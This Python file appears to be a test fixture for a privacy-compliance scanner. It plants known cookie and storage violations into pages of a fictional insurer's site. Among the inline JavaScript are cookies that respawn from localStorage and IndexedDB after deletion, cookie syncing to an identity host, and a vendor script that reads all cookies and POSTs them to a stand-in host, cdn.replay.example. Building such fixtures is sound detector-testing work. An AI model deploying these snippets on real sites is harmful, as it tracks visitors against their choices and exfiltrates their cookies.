"""Cookies and storage that the policy does not name, that live too long, or that come back."""

from __future__ import annotations

import vendors
from registry import METRICS, PX, SYNC, Plant, inline, page, tag

PLANS = ("/plans/", "Plans")
US = "www.millbrook.example"

page(
    "/plans/bronze/",
    "Bronze plan",
    "<p>Low premium, higher cost of care.</p>",
    Plant(
        "header-cookie",
        "an undeclared cookie by response header",
        "cookie-header",
        ("4.1", "0.9"),
        US,
        "cookie:_uid",
        headers=(("Set-Cookie", "_uid=u1.a8f3c2d9e4; Path=/; Max-Age=34560000; SameSite=Lax"),),
    ),
    Plant(
        "script-cookie",
        "an undeclared cookie by script, for the whole domain",
        "cookie-script",
        ("4.1", "0.9"),
        US,
        "cookie:_ga_mb",
        body=inline(
            "document.cookie='_ga_mb=GA1.2.'+Math.floor(Math.random()*1e9)+'.'+Math.floor(Date.now()/1000)+'; domain=.millbrook.example; path=/; max-age=63072000; samesite=lax';"
        ),
    ),
    Plant(
        "cookie-on-image",
        "an undeclared cookie set by the answer to a picture of our own",
        "cookie-subresource",
        ("4.1", "0.9"),
        US,
        "cookie:_imgv",
        hard=True,
        body='<img src="/assets/bronze-chart.png" alt="Costs" width="40" height="20">',
    ),
    Plant(
        "path-cookie",
        "an undeclared cookie that is only seen below a path of its own",
        "cookie-path",
        ("4.1",),
        US,
        "cookie:_pv",
        hard=True,
        headers=(("Set-Cookie", "_pv=1; Path=/plans/bronze/; Max-Age=7776000; SameSite=Lax"),),
    ),
    parent=PLANS,
)

page(
    "/plans/silver/",
    "Silver plan",
    "<p>Middle premium, middle cost of care.</p>",
    Plant(
        "life-too-long",
        "the declared text-size cookie is sent for 400 days instead of 1 year",
        "cookie-life",
        ("4.3", "4.1"),
        US,
        "cookie:mb_text_size",
        hard=True,
        headers=(("Set-Cookie", "mb_text_size=0; Path=/; Max-Age=34560000; SameSite=Lax; HttpOnly"),),
    ),
    Plant(
        "session-cookie-max-age",
        "the declared session cookie mb_form is sent with Max-Age",
        "cookie-session-expiry",
        ("4.2",),
        US,
        "cookie:mb_form",
        hard=True,
        headers=(("Set-Cookie", "mb_form=f7c1; Path=/; Max-Age=2592000; SameSite=Lax; HttpOnly"),),
    ),
    Plant(
        "one-second-cookie",
        "an undeclared cookie that deletes itself after one second",
        "cookie-short-lived",
        ("4.1",),
        US,
        r"log:GET www\.millbrook\.example/_m/probe\.gif .*COOKIE=\S*_tmp",
        hard=True,
        body=inline(
            "document.cookie='_tmp='+Math.random().toString(36).slice(2)+'; path=/; max-age=1';new Image().src='/_m/probe.gif';setTimeout(function(){document.cookie='_tmp=; path=/; max-age=0'},900);"
        ),
    ),
    parent=PLANS,
)

RESPAWN_LOCAL = "(function(){var m=document.cookie.match(/(?:^|; )_vid=([^;]+)/),v=m&&m[1]||localStorage.getItem('_vid_bak')||Math.random().toString(36).slice(2);localStorage.setItem('_vid_bak',v);document.cookie='_vid='+v+'; path=/; max-age=31536000; samesite=lax'})();"
RESPAWN_IDB = "(function(){var r=indexedDB.open('mb_kv',1);r.onupgradeneeded=function(){r.result.createObjectStore('k')};r.onsuccess=function(){var s=r.result.transaction('k','readwrite').objectStore('k'),g=s.get('id');g.onsuccess=function(){var v=g.result||Math.random().toString(36).slice(2);s.put(v,'id');document.cookie='_iid='+v+'; path=/; max-age=31536000; samesite=lax'}}})();"
page(
    "/plans/dental/",
    "Dental plan",
    "<p>Two check-ups a year.</p>",
    Plant(
        "respawn-local",
        "a deleted cookie comes back with the same value from local storage",
        "respawn-local",
        ("4.12", "4.1", "4.7"),
        US,
        "cookie:_vid",
        ("first", "cookies-cleared"),
        hard=True,
        body=inline(RESPAWN_LOCAL),
    ),
    Plant(
        "respawn-etag",
        "a deleted cookie comes back from the ETag of a cached picture",
        "respawn-etag",
        ("4.12", "4.1"),
        US,
        "cookie:_etid",
        ("first", "cookies-cleared"),
        hard=True,
        body='<img src="/assets/tooth.png" alt="" width="1" height="1">',
    ),
    Plant(
        "respawn-indexeddb",
        "a deleted cookie comes back from IndexedDB",
        "respawn-indexeddb",
        ("4.12", "4.1", "4.7"),
        US,
        "cookie:_iid",
        ("first", "cookies-cleared"),
        hard=True,
        body=inline(RESPAWN_IDB),
    ),
    parent=PLANS,
)

page(
    "/plans/vision/",
    "Vision plan",
    "<p>Glasses each second year.</p>",
    Plant(
        "cookie-sync",
        "the value of a first-party cookie is handed to an identity host",
        "cookie-sync",
        ("4.6", "14.2", "4.1"),
        "sync.idgraph.example",
        r"log:GET sync\.idgraph\.example/match\?pid=mb&puid=\w+",
        hard=True,
        body=inline(
            f"(function(){{var m=document.cookie.match(/(?:^|; )_fpid=([^;]+)/),v=m?m[1]:Math.random().toString(36).slice(2);document.cookie='_fpid='+v+'; path=/; max-age=31536000';new Image().src='{SYNC}/match?pid=mb&puid='+v}})();"
        ),
    ),
    Plant(
        "cname-cookie",
        "a cloaked host below our own domain sets a two-year cookie for the whole domain",
        "cname-cookie",
        ("4.1", "11.3", "0.9"),
        "metrics.millbrook.example",
        "cookie:s_vi",
        hard=True,
        body=f'<img src="{METRICS}/b/ss/mb/1?AQB=1&g=vision" alt="" width="1" height="1">',
        note="see cnames.yaml",
    ),
    Plant(
        "nested-frame-cookie",
        "a small frame of our own host sets an undeclared cookie",
        "cookie-nested-frame",
        ("4.1", "0.9"),
        US,
        "cookie:_frm",
        hard=True,
        body='<iframe src="/assets/frame/loader.html" width="1" height="1" title="loader"></iframe>',
    ),
    Plant(
        "third-party-set-cookie",
        "an advertiser's answer sets its own cookie (Chromium may block it: the attempt counts)",
        "cookie-third-party",
        ("11.3", "4.6", "14.2"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/setuid",
        hard=True,
        body=f'<img src="{PX}/setuid" alt="" width="1" height="1">',
    ),
    parent=PLANS,
)

page(
    "/plans/travel/",
    "Care while you travel",
    "<p>Emergency care is covered everywhere.</p>",
    Plant(
        "local-storage",
        "an undeclared key in local storage",
        "storage-local",
        ("4.1", "0.9"),
        US,
        "local:ajs_anonymous_id",
        body=inline("localStorage.setItem('ajs_anonymous_id',JSON.stringify(Math.random().toString(36).slice(2)));"),
    ),
    Plant(
        "session-storage",
        "an undeclared key in session storage",
        "storage-session",
        ("4.1", "0.9"),
        US,
        "session:_hjSessionUser",
        body=inline(
            "sessionStorage.setItem('_hjSessionUser',btoa(JSON.stringify({id:Math.random(),created:Date.now()})));"
        ),
    ),
    Plant(
        "indexed-db",
        "an undeclared IndexedDB database",
        "storage-indexed",
        ("4.1", "0.9"),
        US,
        "idb:firebase-heartbeat",
        body=inline(
            "(function(){var r=indexedDB.open('firebase-heartbeat',1);r.onupgradeneeded=function(){r.result.createObjectStore('hb')};r.onsuccess=function(){r.result.transaction('hb','readwrite').objectStore('hb').put(Date.now(),'t')}})();"
        ),
    ),
    Plant(
        "window-name",
        "an identifier kept in window.name, which survives from page to page",
        "storage-window-name",
        ("4.1",),
        US,
        "api:window.name",
        hard=True,
        body=inline("if(!window.name)window.name='uid:'+Math.random().toString(36).slice(2);"),
    ),
    Plant(
        "cache-storage",
        "an undeclared cache in Cache Storage that keeps an identifier",
        "storage-cache",
        ("4.1",),
        US,
        "api:caches",
        ("secure-context",),
        secure=True,
        hard=True,
        body=inline(
            "if(self.caches)caches.open('uid-v1').then(function(c){c.put('/uid',new Response(Math.random().toString(36)))});"
        ),
    ),
    Plant(
        "opfs-file",
        "an identifier in a file of the origin-private file system",
        "storage-opfs",
        ("4.1",),
        US,
        "api:opfs",
        ("secure-context",),
        secure=True,
        hard=True,
        body=inline(
            "if(navigator.storage&&navigator.storage.getDirectory)navigator.storage.getDirectory().then(function(d){return d.getFileHandle('id',{create:true})}).then(function(h){return h.createWritable()}).then(function(w){w.write(String(Math.random()));w.close()}).catch(function(){});"
        ),
    ),
    Plant(
        "cookie-store",
        "an undeclared cookie by the CookieStore API",
        "cookie-cookiestore",
        ("4.1", "0.9"),
        US,
        "cookie:_cs",
        ("secure-context",),
        secure=True,
        hard=True,
        body=inline(
            "if(window.cookieStore)cookieStore.set({name:'_cs',value:String(Math.random()),expires:Date.now()+31536e6});"
        ),
    ),
    parent=PLANS,
)

page(
    "/plans/medicare/",
    "Millbrook Medicare Plus",
    "<p>For people who have Medicare and Medi-Cal.</p>",
    Plant(
        "return-cookie-without-choice",
        "the declared 'remembered visit' cookie is set although nobody switched remembering on",
        "cookie-without-choice",
        ("4.5", "0.9", "4.12"),
        US,
        "cookie:mb_return",
        hard=True,
        headers=(("Set-Cookie", "mb_return=1; Path=/; Max-Age=15552000; SameSite=Lax; HttpOnly"),),
    ),
    Plant(
        "wrong-purpose-promo",
        "a promotion is fetched from another host because of that cookie",
        "promotion-foreign",
        ("4.5", "4.6", "14.2"),
        "promo.pollster.example",
        r"log:GET promo\.pollster\.example/slot\.png",
        body='<img src="http://promo.pollster.example/slot.png" alt="Cruise offer" width="80" height="20">',
    ),
    parent=PLANS,
)

page(
    "/plans/hmo/",
    "HMO plan",
    "<p>One doctor coordinates your care.</p>",
    Plant(
        "cookie-enumeration",
        "a vendor's script reads all cookies and sends them",
        "enumerate-cookies",
        ("4.7", "4.6", "14.2"),
        "cdn.replay.example",
        r"log:POST cdn\.replay\.example/ctx .*\"c\":",
        hard=True,
        body=inline("document.cookie='_x=1; path=/';")
        + tag(
            vendors.script(
                "http://cdn.replay.example",
                "/s/ctx.js",
                "(function(){var c={};document.cookie.split('; ').forEach(function(p){var i=p.indexOf('=');c[p.slice(0,i)]=p.slice(i+1)});fetch('http://cdn.replay.example/ctx',{method:'POST',mode:'no-cors',body:JSON.stringify({c:c,l:location.pathname})})})();",
            )
        ),
    ),
    Plant(
        "storage-enumeration",
        "a script of our own walks through all of local storage",
        "enumerate-storage",
        ("4.7",),
        US,
        "api:localStorage.key",
        hard=True,
        body=inline(
            "(function(){var o={};for(var i=0;i<localStorage.length;i++){var k=localStorage.key(i);o[k]=(localStorage.getItem(k)||'').length}window.__keys=Object.keys(o).length;localStorage.key(0)})();"
        ),
    ),
    parent=PLANS,
)
